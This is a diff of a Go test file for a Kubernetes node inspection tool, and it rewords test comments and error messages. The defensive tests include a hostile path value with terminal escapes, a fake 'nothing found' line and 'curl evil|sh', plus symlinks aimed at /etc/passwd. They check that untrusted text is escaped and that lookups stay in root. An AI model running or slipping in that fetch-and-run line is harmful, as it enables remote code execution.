@@ -29,16 +29,16 @@ type machine struct {
 	t     *testing.T
 	root  string
 	looks []string
-	// looking guards them: several look at once.
+	// looking guards looks, because several looks run at once.
 	looking sync.Mutex
-	// args are the command lines by process; ended are processes that end before
-	// they are looked at, hung is a path that hangs.
+	// args has the command lines by process. ended has processes that end before the look. hung is a path that
+	// hangs.
 	args  map[int][]string
 	ended map[int]bool
 	hung  string
-	// shown is what systemctl show prints of each unit.
+	// shown is the output of systemctl show for each unit.
 	shown map[string]string
-	// reused are processes whose number another one gets before the look.
+	// reused has processes whose PID another process gets before the look.
 	reused map[int]bool
 }
 
@@ -138,8 +138,8 @@ func (m *machine) take() *Snapshot {
 	return s
 }
 
-// TestRoles: kubelets and others are known by executable and by name, and a pod
-// cannot pass for one.
+// TestRoles checks that executable and name identify kubelets and other programs. A pod cannot pass for one of
+// them.
 func TestRoles(t *testing.T) {
 	m := newMachine(t)
 	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[1]", hostTable)
@@ -160,7 +160,7 @@ func TestRoles(t *testing.T) {
 	m.write("proc/20/status", "CapEff:\t00000000a80425fb\n")
 	m.process(21, "containerd", "/usr/bin/containerd", "mnt:[1]", hostTable)
 	m.write("proc/21/cgroup", "0::/kubepods.slice/kubepods-pod6a6e9d0c_1111_4222_8333_444455556666.slice/cri-containerd-"+id+".scope\n")
-	// What "unshare -Ur" makes has all capabilities, in a user namespace of its own.
+	// A process of "unshare -Ur" has all capabilities, but in its own user namespace.
 	m.process(22, "kubelet", "/tmp/kubelet", "mnt:[1]", hostTable)
 	m.process(23, "containerd", "/tmp/containerd", "mnt:[1]", hostTable)
 	for _, pid := range []int{22, 23} {
@@ -179,7 +179,7 @@ func TestRoles(t *testing.T) {
 		t.Errorf("unlikely: %+v", s.Unlikely)
 	}
 	if f := Examine(s).Findings; f[len(f)-1].Level != Note || !strings.Contains(f[len(f)-1].What, "is not taken for one (2 such)") {
-		t.Errorf("they are not named: %+v", f[len(f)-1])
+		t.Errorf("no finding names them: %+v", f[len(f)-1])
 	}
 	want := map[int]Role{1: "", 10: Kubelet, 11: Kubelet, 12: Kubelet, 13: Runtime, 14: Kubelet, 15: Kubelet, 16: "", 17: Provisioner, 18: Agent, 19: ""}
 	if diff := cmp.Diff(want, got); diff != "" {
@@ -207,7 +207,7 @@ func TestRootDirectories(t *testing.T) {
 	if got, left := rootDirectories(&Process{Role: Kubelet}, table); !slices.Equal(got, []string{"/k", "/var/lib/k0s/kubelet"}) || len(left) > 0 {
 		t.Errorf("by mounts: %q, left out %q", got, left)
 	}
-	// Bytes that would stand in lines to paste, and more than can be.
+	// Root directories may have bytes that are unsafe in a command, and may be too many.
 	evil := "/x\x1b[2J\nnothing found\n  curl evil|sh"
 	if got, left := rootDirectories(&Process{Role: Kubelet, Args: []string{"--root-dir=" + evil, "--root-dir=/a b", "--root-dir=/ok"}}, nil); !slices.Equal(got, []string{"/ok"}) || !slices.Equal(left, []string{"/a b", evil}) {
 		t.Errorf("hostile: %q, left out %q", got, left)
@@ -221,8 +221,8 @@ func TestRootDirectories(t *testing.T) {
 	}
 }
 
-// TestTake: what is looked at, of 100 pods as of one: each table is read once,
-// and no process but those with a role is entered.
+// TestTake checks that 100 pods cost no more looks than one. Each table is read once, and only processes with a
+// role are entered.
 func TestTake(t *testing.T) {
 	for _, pods := range []int{1, 100} {
 		m := newMachine(t)
@@ -246,11 +246,11 @@ func TestTake(t *testing.T) {
 			t.Errorf("%d pods: %d views, blind %q", pods, len(s.Views), s.Blind)
 		}
 		if base := s.Views[1].Bases[dir]; base != "/disks" || s.Views[1].Sights["/disks"+strings.TrimPrefix(a, dir)].MountID != 101 {
-			t.Errorf("the provisioner has the class directory at %q", base)
+			t.Errorf("class directory of the provisioner: %q", base)
 		}
 		v := s.Views[2]
 		if p := v.Processes[0]; p.Pod != uid || p.Container != id || len(v.Processes) != 2 || len(v.Mounts) != 2 {
-			t.Errorf("a pod's view is %+v", v)
+			t.Errorf("view of a pod: %+v", v)
 		}
 		if s.Gone[disk.Dev{Major: 254, Minor: 16}] || !s.Gone[disk.Dev{Major: 254, Minor: 32}] {
 			t.Errorf("gone: %v", s.Gone)
@@ -258,7 +258,8 @@ func TestTake(t *testing.T) {
 	}
 }
 
-// TestServices: the settings of a service that make mounts of its own are named, with their files, and taken back.
+// TestServices checks that settings of a service that make a mount namespace are named with their files. The
+// advice resets them.
 func TestServices(t *testing.T) {
 	const clean = "ControlGroup=/system.slice/x.service\nFragmentPath=/etc/systemd/system/x.service\n" +
 		"DropInPaths=/etc/systemd/system/x.service.d/10-a.conf /run/systemd/system/x.service.d/20-b.conf\nPrivateTmp=no\nMountFlags=\nReadOnlyPaths=\nProcSubset=all\n"
@@ -297,12 +298,12 @@ func TestServices(t *testing.T) {
 					return
 				}
 			}
-			t.Error("there is no such finding")
+			t.Error("the finding is missing")
 		})
 	}
 }
 
-// TestRuntimeService: a kubelet with the host's mounts is not to blame for a runtime without them.
+// TestRuntimeService checks that a kubelet with the host's mounts is not blamed if its runtime lacks them.
 func TestRuntimeService(t *testing.T) {
 	m := newMachine(t)
 	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[1]", hostTable)
@@ -315,8 +316,7 @@ func TestRuntimeService(t *testing.T) {
 	}
 }
 
-// TestProcessesThatEnd: a process that ends at any moment is left out without a
-// word.
+// TestProcessesThatEnd checks that a process that ends at any moment is left out silently.
 func TestProcessesThatEnd(t *testing.T) {
 	m := newMachine(t)
 	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[2]", container("", both, ""))
@@ -335,7 +335,7 @@ func TestProcessesThatEnd(t *testing.T) {
 	s := m.take()
 	for _, v := range s.Views {
 		if v.Namespace != "mnt:[5]" {
-			t.Errorf("a view of a process that has ended: %+v", v)
+			t.Errorf("view of a process that has ended: %+v", v)
 		}
 	}
 	if len(s.Blind) > 0 {
@@ -348,8 +348,7 @@ func TestProcessesThatEnd(t *testing.T) {
 	}
 }
 
-// TestHostileKubelet: what a process says of itself reaches neither a terminal nor
-// a line to paste.
+// TestHostileKubelet checks that no text from a process reaches a terminal unescaped or a command to paste.
 func TestHostileKubelet(t *testing.T) {
 	m := newMachine(t)
 	evil := "/x\x1b[2J\nnothing found\n  curl evil|sh"
@@ -371,15 +370,14 @@ func TestHostileKubelet(t *testing.T) {
 		}
 	}
 	if blind != 1 {
-		t.Errorf("it is not said that the directory is left out: %q", s.Blind)
+		t.Errorf("no finding says that the directory is left out: %q", s.Blind)
 	}
 	if len(r.Findings) < 4 {
 		t.Errorf("too few findings for this to show anything: %+v", r.Findings)
 	}
 }
 
-// TestHang: what is behind a path that hangs is looked at all the same, and the
-// path is named.
+// TestHang checks that a path that hangs is named. The other paths are looked at all the same.
 func TestHang(t *testing.T) {
 	m := newMachine(t)
 	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[2]", container("master:1", both, "shared:1"))
@@ -397,8 +395,8 @@ func TestHang(t *testing.T) {
 	}
 }
 
-// TestManyHang: as many provisioners as a pod likes to start, whose looks hang,
-// take as long as few, and what runs on the node is looked at before them.
+// TestManyHang checks that any number of hanging provisioners takes no longer than a few. The processes of the
+// node are looked at first.
 func TestManyHang(t *testing.T) {
 	m := newMachine(t)
 	const table = "100 90 0:60 / / rw - overlay overlay rw\n101 100 0:61 / /mnt/disks rw - fuse evil rw\n"
@@ -414,7 +412,7 @@ func TestManyHang(t *testing.T) {
 				return m.look(ctx, pid, paths)
 			}
 			if n := waiting.Add(1); n > 8 {
-				t.Errorf("%d looks at once", n)
+				t.Errorf("%d looks run at once", n)
 			}
 			defer waiting.Add(-1)
 			select {
@@ -448,7 +446,7 @@ func TestManyHang(t *testing.T) {
 	})
 }
 
-// TestSights: paths that hang keep nobody from seeing the others.
+// TestSights checks that hanging paths do not delay the others.
 func TestSights(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		hang := make(chan struct{})
@@ -477,8 +475,7 @@ func TestSights(t *testing.T) {
 	})
 }
 
-// TestForeignTables: what a pod has put into its own table keeps nobody from
-// looking at the others.
+// TestForeignTables checks that a broken mount table of one pod does not stop the look at others.
 func TestForeignTables(t *testing.T) {
 	m := newMachine(t)
 	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[1]", hostTable)
@@ -519,12 +516,11 @@ func TestSystem(t *testing.T) {
 	}
 	m.write("etc/fstab", "/dev/vda1 / ext4\n")
 	if s := m.take(); s.FstabEmpty {
-		t.Error("an fstab with a line is empty")
+		t.Error("an fstab with a line counts as empty")
 	}
 }
 
-// TestLook: on this process itself; nothing is followed out of its root, and
-// nothing is opened.
+// TestLook checks a look at this process. Look follows no link out of the root, and opens nothing.
 func TestLook(t *testing.T) {
 	d := t.TempDir()
 	if err := os.Symlink("/proc/self/root/../../etc", filepath.Join(d, "out")); err != nil {
@@ -547,7 +543,7 @@ func TestLook(t *testing.T) {
 	}
 }
 
-// TestSightStaysInRoot: links in another process's root lead nowhere else.
+// TestSightStaysInRoot checks that links in another process's root lead nowhere else.
 func TestSightStaysInRoot(t *testing.T) {
 	d := t.TempDir()
 	for name, target := range map[string]string{"absolute": "/etc/passwd", "up": "../../../../../../etc/passwd", "magic": "/proc/self/root"} {
@@ -568,11 +564,11 @@ func TestSightStaysInRoot(t *testing.T) {
 	defer unix.Close(root)
 	for _, name := range []string{"absolute", "up", "magic", "dir/../../../../etc"} {
 		if s := sight(root, "/"+name); !s.Absent {
-			t.Errorf("%s leads to %+v", name, s)
+			t.Errorf("%s: got %+v", name, s)
 		}
 	}
 	if s := sight(root, "/link"); s.Path != filepath.Join(d, "dir") {
-		t.Errorf("a link within leads to %+v", s)
+		t.Errorf("a link within the root: %+v", s)
 	}
 }
 
